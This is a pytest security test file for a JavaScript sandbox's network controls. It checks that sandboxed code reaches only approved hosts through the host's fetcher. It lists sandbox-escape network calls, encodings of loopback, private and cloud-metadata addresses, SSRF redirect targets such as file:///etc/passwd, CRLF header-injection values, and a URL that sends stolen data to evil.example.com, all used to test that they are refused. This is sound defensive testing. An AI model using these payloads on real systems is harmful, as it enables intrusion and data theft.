"""Code in the sandbox reaches for the network: past the host's fetch, and through it to where nobody let it."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from qingtuan.capabilities.sandbox.base import Job, Limits, Ran
from qingtuan.net.answers import Answer
from qingtuan.net.fetcher import SafeFetcher
from tests.fakes.sandboxes import Trial
from tests.fakes.service import APPROVED, NEAR, Service
from tests.security.test_sandbox_machine import attempt, got_nothing

ASK = (
    "export default async ({ url, init }) => { const r = await fetch(url, init); return [r.status, await r.text()]; };"
)
CANARY = b"the owner's own service"


async def asked(sandbox: Trial, service: Service, url: str, *hosts: str, **init: Any) -> Ran:
    """Ask an address with these hosts approved, or else the service's."""
    sandbox.sandbox.fetcher = service.fetcher
    return await sandbox.sandbox.run(Job(ASK, {"url": url, "init": init}, hosts or (service.host,), {}))


async def refused(sandbox: Trial, service: Service, url: str, *hosts: str, **init: Any) -> str:
    """Why it was not asked; nothing went out and no name was looked up but approved ones."""
    before = len(service.server.asked)
    found = await asked(sandbox, service, url, *hosts, **init)
    assert found.fault is not None, found
    assert len(service.server.asked) == before
    assert CANARY.decode() not in repr(found)
    return found.fault.message


async def reached(sandbox: Trial, service: Service, urls: list[str], *hosts: str) -> list[Any]:
    """Those of some addresses that gave anything, asked one after the other in one call."""
    code = """export default async ({ urls }) => {
      const got = [];
      for (const url of urls) {
        try { const r = await fetch(url); got.push([url, r.status, await r.text()]); } catch { }
      }
      return got;
    };"""
    sandbox.sandbox.fetcher = service.fetcher
    found = await sandbox.sandbox.run(Job(code, {"urls": urls}, hosts))
    assert found.fault is None, found
    assert isinstance(found.value, list)
    return found.value


NATIVE = [
    "return await Deno.connect({ hostname: '127.0.0.1', port: input.port });",
    "return await Deno.connectTls({ hostname: '127.0.0.1', port: input.port });",
    "return await Deno.connect({ transport: 'unix', path: '/run/docker.sock' });",
    "return Deno.listen({ port: 0 }).addr.port;",
    "return Deno.listenDatagram({ port: 0, transport: 'udp' }).addr.port;",
    "return Deno.serve({ port: 0 }, () => new Response('x')).addr.port;",
    "return await Deno.resolveDns('example.com', 'A');",
    "return (await Deno.createHttpClient({}).fetch?.('http://127.0.0.1:' + input.port)).status;",
    "return await new Promise((d, e) => { const s = new WebSocket(`ws://127.0.0.1:${input.port}/`);"
    " s.onopen = d; s.onerror = e; });",
    "const s = new WebSocketStream(`ws://127.0.0.1:${input.port}/`); return await s.opened;",
    "return await new Promise((d, e) => { const s = new EventSource(`http://127.0.0.1:${input.port}/`);"
    " s.onopen = d; s.onerror = e; });",
    "const net = await import('node:net'); return await new Promise((d, e) => {"
    " net.connect(input.port, '127.0.0.1').on('connect', d).on('error', e); });",
    "const tls = await import('node:tls'); return await new Promise((d, e) => {"
    " tls.connect(input.port, '127.0.0.1').on('secureConnect', d).on('error', e); });",
    "const http = await import('node:http'); return await new Promise((d, e) => {"
    " http.get(`http://127.0.0.1:${input.port}/`, d).on('error', e); });",
    "const https = await import('node:https'); return await new Promise((d, e) => {"
    " https.get(`https://127.0.0.1:${input.port}/`, d).on('error', e); });",
    "const http2 = await import('node:http2'); return await new Promise((d, e) => {"
    " http2.connect(`http://127.0.0.1:${input.port}/`).on('connect', d).on('error', e); });",
    "const dns = await import('node:dns/promises'); return await dns.resolve4('secret.example.com');",
    "const dns = await import('node:dns/promises'); return await dns.lookup('secret.example.com');",
    "const d = await import('node:dgram'); const s = d.createSocket('udp4'); return await new Promise((y, e) => {"
    " s.on('error', e); s.send('x', input.port, '127.0.0.1', (error) => error ? e(error) : y()); });",
    "return await import(`http://127.0.0.1:${input.port}/x.js`);",
    "return await new Promise((d, e) => { const w = new Worker('data:text/javascript,fetch(`http://127.0.0.1:'"
    " + input.port + '/`).then(()=>postMessage(1),()=>postMessage(0))', { type: 'module' });"
    " w.onmessage = (m) => m.data ? d('sent') : e(); w.onerror = e; });",
    "return await Deno[Deno.internal].core.ops.op_fetch('GET', `http://127.0.0.1:${input.port}/`, [], null, false);",
    "const m = await WebAssembly.compileStreaming(fetch(`http://127.0.0.1:${input.port}/x.wasm`)); return m;",
    "return new Request(`http://127.0.0.1:${input.port}/`) && (await caches.open('a')).add('/');",
    "navigator.sendBeacon(`http://127.0.0.1:${input.port}/`, 'x'); return 'sent';",
]


@pytest.mark.parametrize("code", NATIVE)
async def test_only_the_hosts_fetch_leads_out(sandbox: Trial, service: Service, code: str) -> None:
    sandbox.sandbox.fetcher = service.fetcher
    job = Job(attempt(code), {"port": service.server.port}, (service.host,), limits=Limits(seconds=3.0))
    found = await sandbox.sandbox.run(job)
    assert found.fault is not None or found.value == "refused", found
    assert (service.server.asked, service.looked_up) == ([], [])


async def test_the_engines_own_fetch_is_shut(sandbox: Trial, service: Service) -> None:
    """A worker of the code has the engine's, not ours."""
    await got_nothing(sandbox, "delete globalThis.fetch; return (await fetch('http://127.0.0.1/')).status;")
    assert service.server.asked == []


NEARBY = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001",
    "127.0.0.1.", "0", "0.0.0.0", "localhost", "localhost.", "LOCALHOST", "foo.localhost", "[::1]", "[::]",
    "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
    "[fe80::1%25eth0]", "[fe80::1]", "[fd00::1]", "169.254.169.254", "0xa9fea9fe", "[fd00:ec2::254]",
    "metadata.google.internal", "100.100.100.200", "10.0.0.1", "192.168.1.1", "172.16.0.1",
    "\u2460\u2461\u2466.0.0.1",
    "127\u30020\u30020\u30021", "\uff11\uff12\uff17.0.0.1", "printer.local", "router", "host.docker.internal",
]  # fmt: skip


async def test_no_spelling_of_what_is_near_is_asked(sandbox: Trial, service: Service) -> None:
    """Not even if somebody was talked into approving it."""
    service.answers("/", CANARY)
    port = service.server.port
    urls = [f"http://{host}:{port}/" for host in NEARBY]
    assert await reached(sandbox, service, urls, service.host) == []
    assert await reached(sandbox, service, urls, *NEARBY, *(f"{host}:{port}" for host in NEARBY)) == []
    assert service.looked_up == []


async def test_a_name_that_stands_for_something_near_is_refused(sandbox: Trial, service: Service) -> None:
    """It is approved, looks harmless, and resolves to this machine."""
    service.answers("/", CANARY)
    url = service.server.url("/", NEAR)
    why = await refused(sandbox, service, url, f"{NEAR}:{service.server.port}")
    assert "public" in why
    assert service.looked_up == [NEAR]


@pytest.mark.parametrize(
    "numbers",
    [["10.0.0.1"], ["169.254.169.254"], ["::1"], ["::ffff:127.0.0.1"], ["64:ff9b::7f00:1"], ["2002:7f00:1::1"],
     ["2001:0:1::1"], ["93.184.216.34", "127.0.0.1"], ["100.100.100.200"], ["fe80::1%eth0"], ["0.0.0.0"], []],
)  # fmt: skip
async def test_any_number_that_is_near_spoils_the_name(sandbox: Trial, service: Service, numbers: list[str]) -> None:
    async def resolve(host: str, port: int) -> list[str]:
        return numbers

    sandbox.sandbox.fetcher = SafeFetcher(resolve=resolve)
    found = await sandbox.sandbox.run(Job(ASK, {"url": "https://harmless.example.com/", "init": {}},
                                          ("harmless.example.com",)))  # fmt: skip
    assert found.fault is not None
    assert [fetch.status for fetch in found.fetched] == [None]


ELSEWHERE = [
    "http://other.example.com/", "http://api.example.com.evil.example.com/", "http://evil-api.example.com/",
    "http://example.com/", "http://xapi.example.com/", "http://api.example.com:81/", "http://api.example.com:22/",
    "http://api.example.com/", "https://api.example.com/", "file:///etc/passwd", "ftp://api.example.com/",
    "gopher://api.example.com/", "data:text/plain,x", "blob:null/x", "ws://api.example.com/", "javascript:1",
    "http://user:pass@HOST/", "http://user@HOST/", "http://HOST@evil.example.com/", "http:///", "//HOST/", "/x", "",
    "http://evil.example.com\\@HOST/", "http://evil.example.com#@HOST/",
    "http://evil.example.com?@HOST/", "http://\u0430pi.example.com/", "http://api.example.com\u3002evil.com/",
]  # fmt: skip


async def test_only_what_was_approved_is_asked(sandbox: Trial, service: Service) -> None:
    service.answers("/", CANARY)
    urls = [url.replace("HOST", service.host) for url in ELSEWHERE]
    assert await reached(sandbox, service, urls, service.host) == []
    assert service.looked_up == []


TARGETS = [
    "http://127.0.0.1:PORT/secret", "http://localhost:PORT/secret", "http://[::1]:PORT/secret",
    "http://2130706433:PORT/secret", "http://169.254.169.254/latest/meta-data/", "//127.0.0.1:PORT/secret",
    "http://near.example.com:PORT/secret", "file:///etc/passwd", "http://user:pass@api.example.com:PORT/secret",
    "gopher://127.0.0.1:PORT/", "http://evil.example.com:PORT/secret", "javascript:alert(1)",
    "http://api.example.com:PORT\\@127.0.0.1/", "data:text/html,x", "http://api.example.com:22/",
]  # fmt: skip


@pytest.mark.parametrize("status", [302, 307])
async def test_no_redirect_leads_elsewhere(sandbox: Trial, service: Service, status: int) -> None:
    service.answers("/secret", CANARY)
    for number, target in enumerate(TARGETS):
        service.server.moved(f"/{number}", target.replace("PORT", str(service.server.port)), status)
    urls = [service.url(f"/{number}") for number in range(len(TARGETS))]
    assert await reached(sandbox, service, urls, service.host) == []
    assert service.server.paths == [f"/{number}" for number in range(len(TARGETS))]
    assert set(service.looked_up) == {APPROVED}


@pytest.mark.parametrize(
    "init",
    [
        {"headers": {"X-A": "b\r\nX-Injected: 1"}}, {"headers": {"X-A\r\nX-Injected": "1"}},
        {"method": "GET / HTTP/1.1"},
        {"method": "CONNECT"}, {"method": "TRACE"}, {"headers": {"X-A": "x" * 30_000}},
        {"headers": {f"X-{number}": "a" for number in range(60)}}, {"method": "PROPFIND"},
    ],
)  # fmt: skip
async def test_no_request_carries_another(sandbox: Trial, service: Service, init: Mapping[str, Any]) -> None:
    await refused(sandbox, service, service.answers("/x", b"x"), **init)


async def test_forged_lines_are_looked_at_like_all_others(sandbox: Trial, service: Service) -> None:
    """Past our `fetch`, straight to the host."""
    service.answers("/x", CANARY)
    code = """export default ({ port, lines }) => {
      for (const line of lines) Deno.stdout.writeSync(new TextEncoder().encode(line + '\\n'));
      return 'done';
    };"""
    fetch = '{"fetch":{"id":1,"method":"%s","url":"%s","headers":%s,"body":%s,"redirect":"follow"}}'
    near = f"http://127.0.0.1:{service.server.port}/x"
    lines = [
        fetch % ("GET", near, "[]", "null"),
        fetch % ("GET", service.url("/x") + "\\r\\nX-Injected: 1", "[]", "null"),
        fetch % ("GET\\r\\nX-Injected: 1", service.url("/x"), "[]", "null"),
        fetch % ("GET", service.url("/x").replace("http:", "http:\\\\\\\\"), "[]", "null"),
        fetch % ("GET", "http://user:pass@" + service.url("/x")[7:], "[]", "null"),
        fetch % ("GET", service.url("/\\u00e9"), "[]", "null"),
        fetch % ("\\u001b[2J", "http://\\u001b]0;x\\u0007\\u202e/", "[]", "null"),
        fetch % ("POST", near, "[]", '"%s"' % ("A" * 1_900_000)),
    ]
    sandbox.sandbox.fetcher = service.fetcher
    found = await sandbox.sandbox.run(Job(code, {"lines": lines}, (service.host,)))
    assert found.value == "done" or found.fault is not None
    assert service.server.asked == []
    assert all((one.method + one.url).isprintable() for one in found.fetched)
    await sandbox.works()


async def test_what_leaves_shows_in_the_trace(sandbox: Trial, service: Service) -> None:
    url = service.answers("/x", b"x")
    found = await asked(sandbox, service, f"{url}?stolen=words", method="POST", body="more words")
    assert [(one.method, one.url, one.sent) for one in found.fetched] == [("POST", f"{url}?stolen=words", 10)]
    found = await asked(sandbox, service, f"{url}?stolen={'w' * 3000}")
    assert len(found.fetched[0].url) == 300
    found = await asked(sandbox, service, "https://evil.example.com/?stolen=words")
    assert [(one.url, one.status) for one in found.fetched] == [("https://evil.example.com/?stolen=words", None)]
    assert found.fetched[0].refused


async def test_answers_that_nobody_reads_are_not_piled_up(sandbox: Trial, service: Service) -> None:
    """Twenty large ones, asked for by code that never looks at its input again."""
    url = service.answers("/large", b"x" * 1024 * 1024)
    fetch = '{"fetch":{"id":%d,"method":"GET","url":"%s","headers":[],"body":null,"redirect":"follow"}}'
    lines = [fetch % (number, url) for number in range(20)]
    code = """export default ({ lines }) => {
      for (const line of lines) Deno.stdout.writeSync(new TextEncoder().encode(line + '\\n'));
      for (;;);
    };"""
    sandbox.sandbox.fetcher = service.fetcher
    found = await sandbox.sandbox.run(Job(code, {"lines": lines}, (service.host,), limits=Limits(seconds=1.0)))
    assert found.fault is not None
    assert found.fault.kind == "time"
    assert len(service.server.asked) <= 8
    await sandbox.works()


async def test_a_key_is_not_coaxed_over_a_plain_line(sandbox: Trial, service: Service) -> None:
    """The code may choose http for an approved name: then what we add stays here."""
    sandbox.sandbox.fetcher = SafeFetcher(
        resolve=service.fetcher.door.resolve, trusted=frozenset({("api.example.com", 80)})
    )
    job = Job(ASK, {"url": "http://api.example.com/", "init": {}}, (APPROVED,), {APPROVED: {"X-Key": "sk-secret"}})
    seen: list[Mapping[str, str]] = []

    async def request(method: str, url: str, *, headers: Mapping[str, str], **_: Any) -> Answer:
        seen.append(headers)
        return Answer(200, {}, b"x", url)

    sandbox.sandbox.fetcher.request = request  # type: ignore[method-assign, assignment]
    assert (await sandbox.sandbox.run(job)).value == [200, "x"]
    assert all("x-key" not in headers for headers in seen)
